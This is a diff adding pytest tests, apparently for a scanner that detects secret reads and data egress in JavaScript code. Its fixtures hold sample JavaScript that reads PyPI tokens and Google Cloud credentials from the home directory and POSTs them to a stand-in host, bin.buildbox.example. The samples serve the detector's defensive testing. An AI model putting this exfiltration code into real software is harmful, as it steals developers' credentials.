@@ -183,3 +183,38 @@ def test_a_default_never_stands_in_for_an_address_computed_at_run_time(tmp_path:
         "setup(pick(process.argv), '-y');\n",
     )
     assert "sh.rustup.rs" not in {c.detail for c in found if c.kind in (Kind.FETCH, Kind.EXEC_FETCHED)}
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "function* wanted(home) {\n"
+        "  for (const rel of ['.pypirc', '.config/gcloud/credentials.db']) yield [rel, path.join(home, rel)];\n"
+        "}\n",
+        "function* wanted(home) {\n"
+        "  yield* [['.pypirc', path.join(home, '.pypirc')]];\n"
+        "  yield ['.config/gcloud/credentials.db', path.join(home, '.config/gcloud/credentials.db')];\n"
+        "}\n",
+    ],
+)
+def test_pairs_a_generator_yields_are_each_read_in_the_loop_over_it(tmp_path: Path, source: str) -> None:
+    found = analyse(
+        tmp_path,
+        "import fs from 'node:fs';\nimport os from 'node:os';\nimport path from 'node:path';\n"
+        f"{source}"
+        "const bag = {};\n"
+        "for (const [rel, where] of wanted(os.homedir())) bag[rel] = fs.readFileSync(where, 'utf8');\n"
+        "await fetch('https://bin.buildbox.example/in', { method: 'POST', body: JSON.stringify(bag) });\n",
+    )
+    reads = {detail for kind, detail in summary(found) if kind is Kind.SECRET_READ}
+    assert reads == {"PyPI tokens (.pypirc)", "Google Cloud credentials (~/.config/gcloud)"}
+
+
+def test_a_generator_of_project_files_reads_no_secret(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "import fs from 'node:fs';\n"
+        "function* docs() { for (const name of ['README.md', 'CHANGELOG.md']) yield [name, `docs/${name}`]; }\n"
+        "for (const [name, where] of docs()) console.log(name, fs.readFileSync(where, 'utf8').length);\n",
+    )
+    assert not [c for c in found if c.kind in (Kind.SECRET_READ, Kind.EGRESS)]
